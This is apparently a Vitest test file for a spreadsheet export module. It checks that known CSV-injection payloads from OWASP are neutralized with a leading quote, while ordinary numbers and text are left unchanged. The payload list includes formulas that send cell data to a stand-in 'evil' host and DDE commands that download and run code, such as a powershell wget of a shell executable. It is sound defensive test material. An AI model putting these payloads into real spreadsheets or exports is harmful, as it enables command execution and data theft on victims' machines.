// @vitest-environment node
// Exports never carry a spreadsheet formula (docs/hardening.md, "Exports"): OWASP's CSV-injection
// payloads, each as a whole cell, leave the CSV writer and the tab-separated copy as text (a
// leading `'`), while numbers stay numbers.
import { describe, expect, it } from 'vitest';
import { csvCell, neutralize, toCsv, toTsv, tsvCell } from '../../src/export/cells';

/**
 * OWASP "CSV Injection" (owasp.org/www-community/attacks/CSV_Injection) and the payloads its
 * references list (DDE, HYPERLINK, IMPORTXML, IMAGE), with the tab / carriage return / line feed
 * prefixes that an importer trims.
 */
const OWASP = [
  '=HYPERLINK("http://evil/?"&A1,"Error: please click for further information")',
  '=HYPERLINK(CONCATENATE("http://evil/?",A1:B9),"x")',
  "=cmd|' /C calc'!A0",
  "=cmd|' /C powershell IEX(wget attacker_server/shell.exe)'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "@SUM(1+9)*cmd|' /C calc'!A0",
  '@SUM(1+1)',
  "=2+5+cmd|' /C calc'!A0",
  "+2+5+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "=10+20+cmd|' /C calc'!A0",
  "+1+cmd|' /C calc'!A0",
  '=DDE("cmd";"/C calc";"!A0")A0',
  "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\regsvr32 /s /n /u /i:http://evil/SCTLauncher.sct scrobj.dll'!''",
  '=IMPORTXML(CONCAT("http://evil/?v=", CONCATENATE(A2:E2)), "//a")',
  '=IMPORTRANGE("https://docs.google.com/spreadsheets/d/x", "A1:B9")',
  '=IMAGE("https://evil/?"&A1)',
  '=WEBSERVICE("http://evil/?"&A1)',
  '=1+2";=1+2',
  '=1+2\'" ;,=1+2',
  '-=1+1',
  '+=1+1',
  '\t=1+1',
  '\r=1+1',
  "\n-3+3+cmd|' /C calc'!D2",
  ' =1+1',
  '\u00a0=1+1',
  '\uff1d1+1', // a full-width equals sign
];

/** What a spreadsheet sees first: a formula starts with one of these once blanks are trimmed. */
const formula = (cell: string) => /^[\s\u00a0]*[=+\-@\uff1d\uff0b\uff0d\uff20]/.test(cell);

describe('formula-safe exports', () => {
  it.each(OWASP)('neutralizes %j with a leading quote, keeping its leading blanks', (payload) => {
    expect(neutralize(payload)).toBe(`'${payload}`);
    for (const cell of [csvCell(payload), tsvCell(payload)]) {
      expect(cell.startsWith("'")).toBe(true);
      expect(formula(cell)).toBe(false);
    }
  });

  it('a leading tab or line break never uncovers the formula behind it, in CSV or TSV', () => {
    for (const blank of ['\t', '\r', '\n', '\r\n', ' \t ']) {
      const tsv = toTsv([[`${blank}=HYPERLINK("http://evil/?"&A1,"x")`]]);
      expect(tsv.startsWith("'")).toBe(true);
      const csv = toCsv([[`${blank}=cmd|' /C calc'!A0`]]).slice(1); // after the BOM
      expect(csv.replace(/^"/, '').startsWith("'")).toBe(true);
    }
  });

  it.each([
    '-5',
    '+3',
    '-3.5',
    '-1,234.5',
    '-1.234,5',
    '+0',
    '-0.001',
    '-12%',
    '-1e5',
    '-€5',
    '1 234',
    '-1\u00a0234,5',
  ])('keeps the number %j a number', (n) => {
    expect(neutralize(n)).toBe(n);
    expect(toCsv([[n]])).toBe(`\ufeff${/,/.test(n) ? `"${n}"` : n}\r\n`);
  });

  it('leaves text that only contains the characters elsewhere alone', () => {
    for (const text of ['a=b', 'e-mail', 'user@example.com', 'C++', 'Acme Ltd', '', '  indented'])
      expect(neutralize(text)).toBe(text);
  });

  it('a neutralized cell is quoted as RFC 4180 says, in one field', () => {
    expect(toCsv([['=1+2";=1+2', 'ok']])).toBe('\ufeff"\'=1+2"";=1+2",ok\r\n');
    expect(toTsv([['=1+2\t=3', 'ok']])).toBe("'=1+2 =3\tok");
  });
});
